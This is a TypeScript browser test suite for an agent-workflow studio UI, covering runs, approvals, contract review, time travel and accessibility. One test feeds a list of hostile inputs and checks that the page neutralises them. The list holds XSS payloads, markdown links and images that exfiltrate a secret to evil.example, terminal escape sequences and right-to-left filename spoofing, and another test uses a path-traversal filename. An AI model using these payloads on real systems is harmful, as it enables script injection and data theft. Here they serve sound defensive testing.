// The studio in Debian's Chromium, on the server that comes with it.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  asJson,
  type ChatModel,
  defineMachine,
  defineState,
  defineWorkflow,
  type Json,
  type TextGuard,
  type Tool,
  WorkflowError,
} from 'agent-machines';
import { toolAgent } from 'agent-machines/machines/tool-agent';
import { scriptedModel } from 'agent-machines/models';
import { verifyPromises } from 'agent-machines/testing';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { z } from 'zod';
import { articlePromises } from '../fixtures/article-promises.ts';
import { articleOptions } from '../fixtures/article-workflow.ts';
import { comparisonOf, hostileCase, reportOf, writeReport } from '../fixtures/eval-reports.ts';
import { failingWorkflows } from '../fixtures/failing-workflows.ts';
import { callsOf } from '../fixtures/recorded-runs.ts';
import { asking } from '../fixtures/served.ts';
import { echo, held, textTool } from '../fixtures/text-tools.ts';
import { hasty } from '../fixtures/verified-workflow.ts';
import { type Browser, openBrowser } from './browser/open-browser.ts';
import { installedFile, installFolder } from './install-folder.ts';
import { serveBuilt, serveWorkflows } from './serve-studio.ts';
import { openPage, openTab } from './studio/open-page.ts';

vi.setConfig({ testTimeout: 300_000 });
const folder = mkdtempSync(join(tmpdir(), 'agent-machines-studio-'));
let browser: Browser;
let server: Awaited<ReturnType<typeof serveBuilt>>;

beforeAll(async () => {
  browser = await openBrowser();
  server = await serveBuilt(join(folder, 'agents.db'));
}, 300_000);
afterAll(async () => {
  await browser?.close();
  await server?.close();
  rmSync(folder, { recursive: true, force: true });
});
const closing: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const close of closing.splice(0)) await close();
});

async function open(options?: Parameters<typeof openPage>[2], address = server.address) {
  const studio = await openPage(browser, address, options);
  closing.push(() => studio.context.close());
  return studio;
}

/** A page of workflows of a test's own. */
async function openOwn(workflows: Parameters<typeof serveWorkflows>[0], options?: Parameters<typeof serveWorkflows>[1]) {
  const own = await serveWorkflows(workflows, options);
  closing.push(() => own.close());
  return open({}, own.address);
}

/** Kinds and keys of a run's journal. */
async function eventsOf(studio: Awaited<ReturnType<typeof open>>, runId: string) {
  const { entries } = await studio.get<{ entries: readonly { kind: string; key: string; outcome: { event?: { type: string } } }[] }>(
    `/api/runs/${runId}/journal`,
  );
  return entries.flatMap(({ kind, outcome }) => (kind === 'event' ? [outcome.event?.type] : []));
}

const plan = 'Make a guide for writing weekly reports with AI';

describe('a first question', () => {
  it.each([
    ['tool-agent', '17% of 2,450,000 plus 1200?', '417700'],
    ['plan-execute', '123 * 456을 계산해줘', '56088'],
    ['contract-agent', '지체상금률은?', '제22조'],
    ['chat-agent', '안녕, 나는 민지야', '민지'],
    ['guide-agent', '영상 편집에 쓸 AI 도구를 추천해줘', '컷담비'],
  ])('is answered by %s, without a key', async (workflow, question, answer) => {
    const studio = await open();
    await studio.ask(question, workflow);
    await studio.shows('.ans', answer);
    await studio.counts('.node.on', 1);
    await studio.counts('.edge.was .line.just', 1);
    expect(studio.complaints).toEqual([]);
  });
});

describe('a plan that waits', () => {
  it('is executed as changed on the page', async () => {
    const studio = await open();
    await studio.ask(plan, 'guide-agent');
    await studio.shows('[data-turn="plan"]', 'Approve');
    await studio.page.locator('.plan .pi .f').first().click();
    await studio.page.locator('.plan input.f').fill('Collect what was done this week');
    await studio.page.keyboard.press('Enter');
    await studio.click('[data-act="approve"]');
    await studio.counts('.ans', 1);
    const runId = await studio.runId();
    expect(await eventsOf(studio, runId)).toEqual(['EDIT', 'APPROVE']);
    expect(JSON.stringify(await studio.get(`/api/runs/${runId}`))).toContain('Collect what was done this week');
    expect(studio.complaints).toEqual([]);
  });

  it('is revised on request, and then cancelled', async () => {
    const studio = await open();
    await studio.ask(plan, 'guide-agent');
    await studio.shows('[data-turn="plan"]', 'Approve');
    await studio.click('[data-act="revise"]');
    await studio.page.locator('.wish input').fill('자막 추가해줘');
    await studio.page.keyboard.press('Enter');
    await studio.shows('.turn', 'evision 2');
    await studio.click('[data-act="cancel"]');
    await studio.counts('[data-turn="plan"]', 0);
    await studio.counts('.node.on[data-state="cancelled"]', 1);
    expect(await eventsOf(studio, await studio.runId())).toEqual(['REVISE', 'CANCEL']);
    expect(studio.complaints).toEqual([]);
  });

  it('accepts one answer from a double click and from two tabs', async () => {
    const studio = await open();
    await studio.ask(plan, 'guide-agent');
    await studio.counts('[data-turn="plan"]', 1);
    const runId = await studio.runId();
    const other = await openTab(studio.context, await studio.page.evaluate(() => location.href));
    await other.counts('[data-turn="plan"]', 1);
    // whoever comes second may find the button gone: the click would wait for it for ever
    await Promise.all([
      Promise.race([studio.page.locator('[data-act="approve"]').dblclick(), studio.counts('.ans', 1)]),
      Promise.race([other.page.locator('[data-act="approve"]').click(), other.counts('.ans', 1)]),
    ]);
    for (const one of [studio, other]) {
      await one.counts('.ans', 1);
      await one.counts('[data-turn="plan"]', 0);
    }
    expect(await eventsOf(studio, runId)).toEqual(['APPROVE']);
    // a browser says itself that the second answer was refused
    const surprises = [...studio.complaints, ...other.complaints].filter((text) => !text.includes('409'));
    expect(surprises).toEqual([]);
  });
});

const contract = [
  '# 번역 용역계약서',
  '제1조(목적) 이 계약은 번역 용역의 조건을 정한다.',
  '제2조(대금의 지급)\n① 갑은 을에게 대금 1,000,000원을 지급한다.\n② 갑은 대금을 납품한 날부터 45일 안에 지급한다.',
  '제3조(비밀유지)\n을은 이 계약으로 안 비밀을 지킨다. <img src=x onerror="document.title=1">',
].join('\n\n');
const file = { name: 'mine.md', mimeType: 'text/markdown', buffer: Buffer.from(contract) };

describe('sources', () => {
  it('open at the article with the quote marked', async () => {
    const studio = await open();
    await studio.ask('지체상금률은?', 'contract-agent');
    await studio.shows('.chips', '② 기한 안에');
    await studio.click('.chips .chip:has-text("② 기한 안에")');
    await studio.shows('.art mark', '② 기한 안에 인도하였으나 불합격한 때에는');
    expect(await studio.page.locator('.art .text h3').first().textContent()).toBe('제22조(지체상금)');
    await studio.page.keyboard.press('c');
    await studio.shows('.art mark', '③ 갑의 사정');
    expect(studio.complaints).toEqual([]);
  });

  it('include an uploaded contract: its outline, its differences from the standard, and an answer from it', async () => {
    const studio = await open();
    await studio.click('.picks button:has-text("contract-agent")');
    await studio.page.locator('input[type=file]').setInputFiles([file]);
    await studio.shows('.toc', '제2조 대금의 지급');
    await studio.click('.toc button:has-text("제3조")');
    await studio.shows('.art .law', '을은 이 계약으로 안 비밀을 지킨다. <img');
    await studio.click('[data-act="compare"]');
    await studio.shows('.redline', '제2조(대금의 지급)');
    await studio.shows('.redline ins', '');
    expect(await studio.page.locator('.redline .grp-title').allTextContents()).toEqual([
      expect.stringMatching(/^Missing here · \d+$/),
      expect.stringMatching(/^Changed · \d+$/),
    ]);
    await studio.click('[data-act="compare"]');
    await studio.ask('대금은 언제 지급해?');
    await studio.shows('.ans', '45일');
    await studio.click('.chips .chip:has-text("②")');
    await studio.shows('.art mark', '45일 안에 지급한다');
    expect(await studio.page.locator('.art img, .redline img').count()).toBe(0);
    // a page that comes later knows what the run was asked about
    const later = await openTab(studio.context, await studio.page.evaluate(() => location.href));
    await later.click('.chips .chip:has-text("②")');
    await later.shows('.art mark', '45일 안에 지급한다');
    await later.shows('.doc-head', '번역 용역계약서');
    expect([...studio.complaints, ...later.complaints]).toEqual([]);
  });
});

const saleContract =
  '매매계약서\n\n가람(이하 "매도인"이라 한다)과 나루(이하 "매수인"이라 한다)는 다음과 같이 계약한다.\n\n제1조(가격) 매도인은 언제든지 가격을 변경할 수 있다.\n제2조(납기) 매도인은 2027년 5월 31일까지 납품한다.\n';

describe('the page for contracts', () => {
  it('reviews a pasted contract for one side, and says what is no contract', async () => {
    const studio = await open();
    await studio.click('a[href="#/review"]');
    await studio.page.locator('.review-form textarea').fill(saleContract);
    await studio.click('.review-form button[type=submit]');
    await studio.shows('.review-finding', '매도인은 언제든지 가격을 변경할 수 있다.');
    await studio.page.locator('.review select').selectOption({ label: '매수인 (나루)' });
    await studio.shows('.review-finding .rd', 'One side may change price or terms');
    await studio.shows('.review-list', '2027-05-31');
    await studio.page.locator('.review-form textarea').fill('Bake bread.');
    await studio.click('.review-form button[type=submit]');
    await studio.shows('[role=alert]', 'DOCUMENT_INVALID');
    expect(studio.complaints).toEqual([]);
  });
});

describe('the time of a run', () => {
  it('can be rewound and forked', async () => {
    const studio = await open();
    await studio.ask('123 * 456을 계산해줘', 'plan-execute');
    await studio.shows('.ans', '56088');
    await studio.page.locator('.track').focus();
    await studio.page.keyboard.press('Home');
    await studio.shows('.time-head', 'Entry 1 of');
    await studio.counts('.node.on[data-state="done"]', 0);
    await studio.click('[data-act="live"]');
    await studio.counts('.node.on[data-state="done"]', 1);
    await studio.page.locator('h2').first().click();
    for (const key of ['Shift+K', 'Shift+K', 'f']) await studio.page.keyboard.press(key);
    const at = await studio.page.locator('.fork .b').first().textContent();
    await studio.click('.fork button[type=submit]');
    await studio.counts('.one-turn', 2);
    await studio.page.waitForFunction(() =>
      [...document.querySelectorAll('.one-turn')].at(-1)?.querySelector('.ans')?.textContent?.includes('56088'),
    );
    expect(at).toMatch(/executor#1|planner#1/);
    expect(studio.complaints).toEqual([]);
  });

  it('is in the journal, with the state after each entry and the promises of the machine', async () => {
    const studio = await open();
    await studio.ask('17% of 2,450,000 plus 1200?', 'tool-agent');
    await studio.shows('.ans', '417700');
    await studio.page.locator('#tab-journal').click();
    await studio.shows('.entries', 'settle');
    for (const [name, text] of [
      ['State', 'done'],
      ['Model calls', ''],
      ['Events', 'model-end'],
      ['Promises', 'e'],
    ] as const) {
      await studio.click(`.sections .chip:has-text("${name}")`);
      await studio.shows('.journal', text);
    }
    expect(await studio.page.locator('.promises li').count()).toBeGreaterThan(3);
    expect(await studio.page.locator('.promises').textContent()).not.toContain('undefined');
    expect(studio.complaints).toEqual([]);
  });
});

it('resumes after its server was killed and restarted', async () => {
  const db = join(folder, 'killed.db');
  let own = await serveBuilt(db);
  closing.push(() => own.close());
  const studio = await open({}, own.address);
  await studio.ask(plan, 'guide-agent');
  await studio.counts('[data-turn="plan"]', 1);
  await own.kill();
  await studio.click('[data-act="approve"]');
  await studio.counts('.lost', 1);
  await studio.counts('[data-turn="plan"]', 1);
  own = await serveBuilt(db, own.port, own.token);
  await studio.counts('.lost', 0);
  await studio.click('[data-act="approve"]');
  await studio.counts('.ans', 1);
  expect(await eventsOf(studio, await studio.runId())).toEqual(['APPROVE']);
  // what was on its way when the server was killed, and what was asked meanwhile
  expect(studio.complaints.filter((text) => !/net::ERR_(?:CONNECTION_\w+|EMPTY_RESPONSE|INCOMPLETE_CHUNKED_ENCODING)/.test(text))).toEqual(
    [],
  );
});

it('shows the position of a working run, also after a reload, and the answer at the end', async () => {
  const slow = held('slow');
  const model = scriptedModel([{ reply: callsOf(['slow', 'x']) }, { reply: '다 했습니다.', tokens: ['다 ', '했습', '니다.'] }]);
  const studio = await openOwn([toolAgent({ model, tools: [slow] })]);
  await studio.ask('go');
  await studio.counts('.node.on[data-state="tools"]', 1);
  await studio.page.reload();
  await studio.counts('.node.on[data-state="tools"]', 1);
  slow.calls[0]?.resolve('at last');
  await studio.shows('.ans', '다 했습니다.');
  await studio.counts('.node.on[data-state="tools"]', 0);
  expect([slow.calls.length, studio.complaints]).toEqual([1, []]);
});

it('streams the text of a model', async () => {
  const [first, rest] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()];
  const whole = scriptedModel([{ reply: 'Half of it, and the rest.' }]);
  const model: ChatModel = {
    name: 'slow',
    async generate({ onToken, ...request }) {
      const reply = await whole.generate(request);
      await first.promise;
      onToken?.('Half of it');
      await rest.promise;
      onToken?.(', and the rest.');
      return reply;
    },
  };
  const studio = await openOwn([toolAgent({ model, tools: [] })]);
  await studio.ask('go');
  await studio.counts('.node.on[data-state="agent"]', 1); // it listens
  first.resolve();
  await studio.shows('.ans.streams', 'Half of it');
  expect(await studio.page.locator('.ans').textContent()).not.toContain('rest');
  rest.resolve();
  await studio.shows('.ans:not(.streams)', 'Half of it, and the rest.');
  expect(studio.complaints).toEqual([]);
});

it('asks for the outcome of a call in doubt, and resumes with the answer', async () => {
  const lost = new WorkflowError({ code: 'CALL_IN_DOUBT', message: 'The connection was lost.' });
  const pay = textTool('pay', async () => Promise.reject(lost), { effect: 'once', risk: 'low' });
  const model = scriptedModel([
    { reply: callsOf(['pay', 'rent']) },
    { reply: 'Paid.', check: ({ messages }) => expect(JSON.stringify(messages)).toContain('receipt 7') },
  ]);
  const studio = await openOwn([toolAgent({ model, tools: [pay] })]);
  await studio.ask('pay the rent');
  await studio.shows('[data-turn="doubt"]', 'rent');
  await studio.click('[data-turn="doubt"] [data-act="done"]');
  await studio.page.keyboard.type('"receipt 7"');
  await studio.page.keyboard.press('Enter');
  await studio.shows('.ans', 'Paid.');
  await studio.counts('[data-turn="doubt"]', 0);
  expect(studio.complaints).toEqual([]);
});

it('retries a rate-limited request by itself, and shows the wait', async () => {
  const asked = 3;
  const model = scriptedModel(Array.from({ length: asked }, (_, index) => ({ reply: `Answer ${index}.` })));
  const studio = await openOwn([toolAgent({ model, tools: [] })], { limits: { starts: { perMinute: 30, burst: 1 } } });
  for (let index = 0; index < asked; index++) await studio.ask(`Question ${index}`);
  await studio.shows('.held', 'Nothing is lost');
  await studio.counts('.one-turn .ans', asked);
  await studio.counts('.held', 0);
  const { runs } = await studio.get<{ runs: readonly unknown[] }>('/api/runs');
  expect(runs).toHaveLength(asked);
  expect(studio.complaints.filter((text) => !text.includes('429'))).toEqual([]);
});

it('rates an answer, and takes the rating back', async () => {
  const studio = await openOwn([toolAgent({ model: scriptedModel([{ reply: 'Hello.' }]) })]);
  await studio.ask('hi');
  await studio.shows('.ans', 'Hello.');
  await studio.click('[aria-label="Bad answer"]');
  await studio.counts('[aria-label="Bad answer"][aria-pressed="true"]', 1);
  const id = await studio.runId();
  expect(await studio.get<{ rating?: string }>(`/api/runs/${id}`)).toMatchObject({ rating: 'down' });
  await studio.page.reload();
  await studio.counts('[aria-label="Bad answer"][aria-pressed="true"]', 1);
  if (process.env.SHOT) await studio.page.screenshot({ path: process.env.SHOT });
  await studio.click('[aria-label="Bad answer"]');
  await studio.counts('.thumbs [aria-pressed="true"]', 0);
  expect(await studio.get<object>(`/api/runs/${id}`)).not.toHaveProperty('rating');
});

it('deletes a thread after a confirmation', async () => {
  const studio = await openOwn([toolAgent({ model: scriptedModel([{ reply: 'Hello.' }]) })]);
  await studio.ask('hi');
  await studio.shows('.ans', 'Hello.');
  const id = await studio.runId();
  await press(studio, '.row-menu .link:has-text("Delete")');
  await press(studio, '.row-menu .link:has-text("Keep")');
  await studio.counts('.th', 1);
  await press(studio, '.row-menu .link:has-text("Delete")');
  await press(studio, '.row-menu .link:has-text("Delete with its runs")');
  await studio.counts('.th', 0);
  await studio.counts('.ans', 0);
  expect(await studio.get(`/api/runs/${id}`)).toMatchObject({ code: 'RUN_UNKNOWN' });
  expect(studio.complaints.filter((text) => !text.includes('404'))).toEqual([]);
});

const hostile = [
  '<img src=x onerror="owned=1"> <svg onload="owned=1"></svg> <script>owned=1</script> </script><script>owned=1</script>',
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe> <math><mtext><script>owned=1</script></mtext></math>',
  '[click](javascript:owned=1) [data](data:text/html,<script>owned=1</script>) [bank](https://bank.example@evil.example/) [mail](https://evil.example/?q=SECRET)',
  '![pixel](https://evil.example/?q=SECRET) ![x](data:image/svg+xml,<svg/onload=owned=1>)',
  '```mermaid\ngraph TD; A["<img src=x onerror=owned=1>"]\n```',
  '\u001b]52;c;b3duZWQ=\u0007 \u001b]8;;https://evil.example\u0007text\u001b]8;;\u0007 over\rwritten \u202Etxt.exe',
].join('\n\n');

/** Where text of the page has characters that cannot be seen, or turn others round. */
const unseenIn = (studio: Awaited<ReturnType<typeof open>>): Promise<readonly string[]> =>
  studio.page.evaluate(() => {
    const isUnseen = (text: string | null): boolean => /\p{Cf}|\p{Cc}/u.test((text ?? '').replace(/[\n\t\r]/g, ''));
    const texts = [...document.querySelectorAll('body *')].flatMap((element) =>
      [...element.childNodes].some(({ nodeType, nodeValue }) => nodeType === 3 && isUnseen(nodeValue)) ||
      ['aria-label', 'title', 'placeholder'].some((name) => isUnseen(element.getAttribute(name)))
        ? [element.outerHTML.slice(0, 200)]
        : [],
    );
    return isUnseen(document.title) ? [document.title, ...texts] : texts;
  });

it('distinguishes documents, calls and failures from each other', async () => {
  const turned = '\u202Efdp.\u0007<img src=x onerror="owned=1">';
  const studio = await open();
  await studio.click('.picks button:has-text("contract-agent")');
  for (const name of [`${turned}.md`, '../../etc/passwd.md', `${'a'.repeat(90)}.md`]) {
    const buffer = Buffer.from(`# ${turned}\n\n제1조(${turned})\n① 갑은 을에게 대금을 45일 안에 지급한다. ${turned}`);
    await studio.page.locator('input[type=file]').setInputFiles([{ name, mimeType: 'text/markdown', buffer }]);
    await studio.shows('.toc', '제1조');
    expect(await unseenIn(studio)).toEqual([]);
  }
  await studio.ask(`대금은 언제 지급해? ${turned}`);
  await studio.shows('.ans', '45일');
  await studio.page.locator('#tab-sources').click();
  expect(await unseenIn(studio)).toEqual([]);

  const refuses = textTool(
    'refuses',
    async () => Promise.reject(new WorkflowError({ code: 'TOOL_FAILED', message: turned, hint: turned })),
    {
      needsApproval: true,
      description: turned,
    },
  );
  const model = scriptedModel([{ reply: callsOf(['refuses', turned]) }]);
  const other = await openOwn([toolAgent({ model, tools: [refuses] })]);
  await other.ask('go');
  await other.counts('.talk [data-act="approve"]', 1);
  expect(await unseenIn(other)).toEqual([]);
  await other.click('.talk [data-act="approve"]');
  await other.counts('.failed', 1);
  await other.click('[data-act="timeline"]');
  expect(await unseenIn(other)).toEqual([]);
  expect([...studio.complaints, ...other.complaints]).toEqual([]);
});

it('shows text of a model and a tool without executing it', async () => {
  const reads = textTool('read', async () => ({ page: hostile }), { description: hostile });
  const model = scriptedModel([{ reply: callsOf(['read', hostile]) }, { reply: hostile }]);
  const studio = await openOwn([toolAgent({ model, tools: [reads] })]);
  await studio.ask(hostile);
  await studio.shows('.ans', 'bank.example');
  await studio.click('[data-act="timeline"]');
  await studio.click('.tl button[aria-expanded="false"]');
  await studio.shows('.unt', 'onerror');
  for (const tab of ['journal', 'sources', 'machine']) {
    await studio.page.locator(`#tab-${tab}`).click();
    for (const section of await studio.page.locator('.sections .chip').allTextContents())
      await studio.click(`.sections .chip:has-text("${section}")`);
  }
  const found = await studio.page.evaluate(() => ({
    owned: 'owned' in globalThis,
    elements: document.querySelectorAll('img, iframe, object, embed, math, script:not([src]), .ans svg, .unt svg').length,
    links: [...document.querySelectorAll<HTMLAnchorElement>('.ans a')].map(({ href, textContent }) => [href, textContent]),
  }));
  expect(found).toEqual({ owned: false, elements: 0, links: [['https://evil.example/?q=SECRET', 'mail (evil.example)']] });
  expect(await unseenIn(studio)).toEqual([]);
  expect(studio.complaints).toEqual([]);
});

/** Presses what is shown only below the pointer. */
const press = async (studio: Awaited<ReturnType<typeof open>>, selector: string): Promise<void> => {
  await studio.page.locator('.th.on .row-link').focus();
  await studio.click(selector);
};

it('names features that the server does not offer', async () => {
  const missing = ({ method, url }: Request): boolean => /PATCH|DELETE/.test(method) || url.endsWith('/test');
  const studio = await openOwn([toolAgent({ model: scriptedModel([{ reply: 'Hello.' }]) })], { without: missing });
  await studio.ask('hi');
  await studio.shows('.ans', 'Hello.');
  await press(studio, '.row-menu .link:has-text("Delete")');
  await press(studio, '.row-menu .link:has-text("Delete with its runs")');
  await studio.shows('.row-menu', 'This server does not support this.');
  await press(studio, '.row-menu .link:has-text("Rename")');
  await studio.page.locator('.rename input').fill('other');
  await studio.page.keyboard.press('Enter');
  await studio.shows('.rename', 'This server does not support this.');
  expect(studio.complaints.filter((text) => !text.includes('404'))).toEqual([]);
});

it('renames a thread by the keyboard, and finds it by its name', async () => {
  const studio = await openOwn([toolAgent({ model: scriptedModel([{ reply: 'Hello.' }]) })]);
  const { keyboard } = studio.page;
  await studio.ask('hi');
  await studio.shows('.ans', 'Hello.');
  await studio.page.locator('.th.on .row-link').focus();
  await keyboard.press('F2');
  await studio.page.waitForFunction(() => document.activeElement?.matches('.rename input') === true);
  await keyboard.press('ControlOrMeta+a');
  await keyboard.type('Weekly 보고');
  await keyboard.press('Enter');
  await studio.shows('.th.on .q', 'Weekly 보고');
  await studio.page.waitForFunction(() => document.activeElement?.matches('.row-link') === true);
  await keyboard.press('/');
  await keyboard.type('nothing like it');
  await studio.counts('.th', 0);
  await keyboard.press('ControlOrMeta+a');
  await keyboard.type('weekly');
  await studio.shows('.th .q', 'Weekly 보고');
  expect(studio.complaints).toEqual([]);
});

const pay = (): Tool & { readonly asked: string[] } => echo('pay', { risk: 'high', needsApproval: true, description: 'Pays.' });

it('can be used by the keyboard alone, through an approval', async () => {
  const tool = pay();
  const studio = await openOwn([
    toolAgent({ model: scriptedModel([{ reply: callsOf(['pay', '10']) }, { reply: 'Paid.' }]), tools: [tool] }),
  ]);
  const { keyboard } = studio.page;
  const isAt = (selector: string): Promise<boolean> =>
    studio.page.evaluate((where) => document.activeElement?.matches(where) === true, selector);
  const tabTo = async (selector: string): Promise<void> => {
    for (let presses = 0; presses < 60 && !(await isAt(selector)); presses++) await keyboard.press('Tab');
    expect(await isAt(selector)).toBe(true);
  };
  await tabTo('#composer');
  await keyboard.type('pay');
  await keyboard.press('Enter');
  await studio.shows('[data-turn="call"]', '10');
  await keyboard.press('Escape');
  for (const key of ['a', 'y', 'Enter', ' ', 'r', 'g', 'm']) await keyboard.press(key); // no single key approves
  expect(tool.asked).toEqual([]);
  await tabTo('.talk [data-act="approve"]');
  await keyboard.press('Enter');
  await studio.shows('.ans', 'Paid.');
  expect([tool.asked, studio.complaints]).toEqual([['10'], []]);
});

it('decides several calls with one answer, and sends nothing before each has a decision', async () => {
  const tool = pay();
  const calls = callsOf(['pay', '10'], ['pay', '20'], ['pay', '30']);
  const studio = await openOwn([toolAgent({ model: scriptedModel([{ reply: calls }, { reply: 'Paid.' }]), tools: [tool] })]);
  await studio.ask('pay');
  await studio.shows('[data-turn="calls"]', '30');
  await studio.counts('.talk .one-call', 3);
  await studio.click('.talk [data-call="call_0"] [data-act="approve-one"]');
  await studio.click('.talk [data-call="call_1"] [data-act="refuse-one"]');
  await studio.page.keyboard.type('too much');
  await studio.page.keyboard.press('Enter');
  await studio.shows('.talk [data-call="call_1"]', 'too much');
  await studio.counts('.talk [data-act="decide"]:disabled', 1);
  expect(tool.asked).toEqual([]);
  await studio.click('.talk [data-call="call_2"] [data-act="approve-one"]');
  await studio.click('.talk [data-act="decide"]');
  await studio.shows('.ans', 'Paid.');
  expect([tool.asked, studio.complaints]).toEqual([['10', '30'], []]);
});

it('asks a question of any workflow as a form, and sends what the schema of the event wants', async () => {
  const approve = z.strictObject({
    type: z.literal('APPROVE'),
    payOn: z.iso.date(),
    euros: z.number().max(500),
    account: z.enum(['main', 'reserve']),
    urgent: z.boolean(),
    copies: z.array(z.string()),
    note: z.string().optional(),
  });
  const reject = z.strictObject({ type: z.literal('REJECT'), reason: z.string().min(3) });
  const state = defineState<{ said: Json }, unknown, Json, z.infer<typeof approve> | z.infer<typeof reject>>({
    events: {
      APPROVE: {
        schema: approve,
        parse: (event) => approve.parse(event),
        patch: (_state, { type: _, ...said }) => ({ said: asJson(said) }),
      },
      REJECT: { schema: reject, parse: (event) => reject.parse(event), patch: (_state, { reason }) => ({ said: reason }) },
    },
  });
  const machine = defineMachine(state, {
    id: 'invoice',
    initial: 'load',
    context: () => ({ said: null }),
    output: ({ said }) => JSON.stringify(said),
    states: {
      load: { node: 'load', done: 'review', error: 'refused' },
      review: { description: 'Pay this invoice?', waiting: { APPROVE: 'paid', REJECT: 'refused' } },
      paid: { final: 'success' },
      refused: { final: 'success' },
    },
  });
  const workflow = defineWorkflow({
    machine,
    nodes: { load: async () => ({}) },
    questions: { review: () => ({ invoice: 'INV-7', euros: 120 }) },
  });
  const studio = await openOwn([workflow]);
  await studio.ask('invoice');
  await studio.shows('[data-turn="other"]', 'Pay this invoice?');
  await studio.shows('[data-turn="other"] .kv', 'INV-7');
  const form = studio.page.locator('.talk form[data-event="APPROVE"]');
  const submit = form.locator('button[type="submit"]');
  await submit.click();
  await studio.counts('.talk .field [role="alert"]', 2);
  expect(await form.getByLabel('Euros').inputValue()).toBe('120');
  await form.getByLabel('Pay on').fill('2026-12-01');
  await form.getByLabel('Account').selectOption({ label: 'reserve' });
  await form.getByLabel('Urgent').check();
  await form.getByLabel('Copies').fill('a@example.com\nb@example.com');
  await form.getByLabel('Euros').fill('900');
  await submit.click();
  await studio.shows('[data-turn="other"] .trouble', 'EVENT_INVALID');
  await form.getByLabel('Euros').fill('130');
  await submit.click();
  await studio.shows('.ans', 'reserve');
  const { output } = await studio.get<{ output: string }>(`/api/runs/${await studio.runId()}`);
  const sent = { payOn: '2026-12-01', euros: 130, account: 'reserve', urgent: true, copies: ['a@example.com', 'b@example.com'] };
  expect(JSON.parse(output)).toEqual(sent);
});

it('lets a human replace an answer that a guard holds', async () => {
  const model = scriptedModel([{ reply: 'You may sue.' }]);
  const hold: TextGuard = { name: 'legal', at: ['answer'], check: () => ({ as: 'hold', reason: 'legal advice' }) };
  const studio = await openOwn([toolAgent({ model, guards: [hold] })]);
  await studio.ask('my landlord');
  await studio.shows('[data-turn="other"] .kv', 'You may sue.');
  await studio.click('.talk button[data-event="REPLACE"]');
  await studio.page.locator('.talk form[data-event="REPLACE"] textarea').fill('Ask a lawyer.');
  await studio.page.keyboard.press('Control+Enter');
  await studio.shows('.ans', 'Ask a lawyer.');
});

it('speaks the language of its reader, and switches to the other one', async () => {
  const studio = await open({ locale: 'ko-KR' });
  await studio.shows('.tab', '기계');
  expect(await studio.page.evaluate(() => document.documentElement.lang)).toBe('ko');
  await studio.ask(plan, 'guide-agent');
  await studio.shows('[data-act="approve"]', '승인');
  await studio.click('.lang');
  await studio.shows('[data-act="approve"]', 'Approve');
  expect(await studio.page.evaluate(() => document.documentElement.lang)).toBe('en');
  await studio.click('[data-act="cancel"]');
  expect(studio.complaints).toEqual([]);
});

describe('the timeline of an answer', () => {
  const ask = async (options?: Parameters<typeof openPage>[2]) => {
    const studio = await open(options);
    await studio.ask('17% of 2,450,000 plus 1200?', 'tool-agent');
    await studio.shows('.ans', '417700');
    return studio;
  };

  it.each([
    ['as the browser does', undefined],
    ['with a Promise', 'Element.prototype.scrollIntoView = () => Promise.resolve();'],
  ])('closes and leaves the page when scrolling answers %s', async (_, script) => {
    const studio = await ask(script === undefined ? {} : { script });
    for (const shown of [1, 0, 1, 0]) {
      await studio.click('[data-act="timeline"]');
      await studio.counts('.tl', shown);
    }
    await studio.shows('.ans', '417700');
    await studio.counts('.crashed', 0);
    expect(studio.complaints).toEqual([]);
  });

  it.each([
    ['en-US', 'This part of the page has failed', 'Reload'],
    ['ko-KR', '화면의 이 부분에 오류가 났습니다', '새로 고침'],
  ])('confines its error, in %s, with details to copy', async (locale, said, reload) => {
    const script = 'Element.prototype.scrollIntoView = () => { throw new Error("no scrolling"); };';
    const studio = await ask({ script, locale, permissions: ['clipboard-read', 'clipboard-write'] });
    await studio.click('[data-act="timeline"]');
    await studio.shows('.crashed', said);
    await studio.shows('.ans', '417700');
    await studio.click('.crashed button:not([data-act])');
    await studio.page.waitForFunction(async () => (await navigator.clipboard.readText()).includes('panel: timeline'));
    expect(await studio.page.evaluate(() => navigator.clipboard.readText())).toContain('no scrolling');
    await studio.shows('.crashed [data-act="reload"]', reload);
    await studio.click('[data-act="timeline"]'); // closed, there is nothing to fail
    await studio.counts('.crashed', 0);
    await studio.click('[data-act="timeline"]');
    await studio.click('.crashed [data-act="reload"]');
    await studio.counts('.crashed', 0);
    await studio.shows('.ans', '417700');
  });
});

describe('waiting runs', () => {
  it('are listed up to a hundred, and more on request', async () => {
    const plenty = { perMinute: 1e6, burst: 1e6 };
    const studio = await openOwn([asking], {
      limits: { starts: plenty, writes: plenty, reads: plenty, runningRuns: 1_000, threads: 1_000 },
    });
    const startMany = (count: number): Promise<void> =>
      studio.page.evaluate(async (many) => {
        const init = { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"workflow":"asking","input":{}}' };
        for (let index = 0; index < many; index++) {
          const { status } = await fetch('/api/runs', init);
          if (status !== 201) throw new Error(`A start was answered with ${status}.`);
        }
      }, count);
    await startMany(103);
    await studio.page.keyboard.press('y');
    await studio.counts('.asks .ask', 100);
    await studio.shows('.tab .badge', '100+');
    await studio.page.locator('.asks > .link').focus();
    await studio.page.keyboard.press('Enter');
    await studio.counts('.asks .ask', 103);
    await studio.counts('.asks > .link', 0);
    await studio.shows('.tab .badge', '103');
    await startMany(1); // a page that shows more goes on showing more
    await studio.counts('.asks .ask', 104);
    expect(studio.complaints).toEqual([]);
  });
});

describe('a broken promise', () => {
  const report = verifyPromises(hasty, { invariants: articlePromises, exploreOptions: articleOptions });
  const keeps = report.promises.filter(({ verdict }) => verdict === 'holds').length;
  const served = {
    id: 'hasty',
    title: 'Hasty',
    description: 'Publishes what nobody has approved.',
    examples: ['a topic'],
    workflow: hasty,
    promises: () => report,
  };
  const broken = 'nothing is published before a human approved it';

  it('is stepped through on the machine by keys alone', async () => {
    const studio = await openOwn([served]);
    const { keyboard } = studio.page;
    await keyboard.press('g'); // the journal, before anything was asked
    await studio.shows('.promises', broken);
    await studio.counts('.promises [data-verdict="broken"]', articlePromises.length - keeps);
    await studio.counts('.promises [data-verdict="holds"]', keeps);
    await studio.page.locator(`.promises li:has-text("${broken}") button`).focus();
    await keyboard.press('Enter');
    await studio.shows('.walk', 'step 0 of 2');
    await studio.shows('.node.on', 'write');
